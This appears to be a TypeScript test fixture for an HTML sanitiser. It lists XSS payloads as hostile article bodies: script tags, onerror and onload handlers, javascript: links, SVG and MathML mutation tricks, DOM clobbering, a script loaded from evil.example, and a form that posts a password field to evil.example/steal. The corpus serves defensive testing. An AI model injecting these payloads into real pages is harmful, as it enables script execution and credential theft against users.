/**
 * Hostile article bodies: each would run script, load a frame, restyle the page
 * or open a tab that can reach back to ours if rendered as written. Shared by
 * the sanitiser's unit test and the end-to-end test that renders them in a browser.
 */
export const XSS_MARKER = "xss-fired";

export const xssCorpus: Record<string, string> = {
  "script tag": `<p>Intro</p><script>window.alert("${XSS_MARKER}")</script>`,
  "script with src": `<script src="https://evil.example/x.js"></script>`,
  "img onerror": `<img src="/does-not-exist.png" onerror="alert('${XSS_MARKER}')">`,
  "javascript: link": `<a href="javascript:alert('${XSS_MARKER}')">Click me</a>`,
  "javascript: link with entities": `<a href="jav&#x09;ascript:alert('${XSS_MARKER}')">Click me too</a>`,
  "svg onload": `<svg onload="alert('${XSS_MARKER}')"><circle r="4"></circle></svg>`,
  "svg script": `<svg><script>alert('${XSS_MARKER}')</script></svg>`,
  "svg animate href": `<svg><a><animate attributeName="href" values="javascript:alert('${XSS_MARKER}')"/><text y="20">x</text></a></svg>`,
  iframe: `<iframe src="javascript:alert('${XSS_MARKER}')"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  "object and embed": `<object data="javascript:alert('${XSS_MARKER}')"></object><embed src="javascript:alert(1)">`,
  "style element with expression": `<style>body { background: url("javascript:alert('${XSS_MARKER}')"); width: expression(alert(1)); }</style>`,
  "inline style with expression": `<p style="width: expression(alert('${XSS_MARKER}')); background:url(javascript:alert(1))">Styled</p>`,
  "target blank without rel": `<a href="https://evil.example/phish" target="_blank">Offer</a>`,
  "form posting elsewhere": `<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>`,
  "meta refresh": `<meta http-equiv="refresh" content="0;url=javascript:alert('${XSS_MARKER}')">`,
  "base href": `<base href="https://evil.example/">`,
  "event handler on details": `<details open ontoggle="alert('${XSS_MARKER}')"><summary>x</summary></details>`,
  "math with href": `<math><mtext><table><mglyph><style><img src=x onerror=alert('${XSS_MARKER}')></style></mglyph></table></mtext></math>`,
  "mutation xss via noscript": `<noscript><p title="</noscript><img src=x onerror=alert('${XSS_MARKER}')>"></p></noscript>`,
  "data URL image": `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  "data attribute and id clobbering": `<img name="getElementById" id="root" data-x="1" src="/images/knowledge/placeholder.svg">`,
};
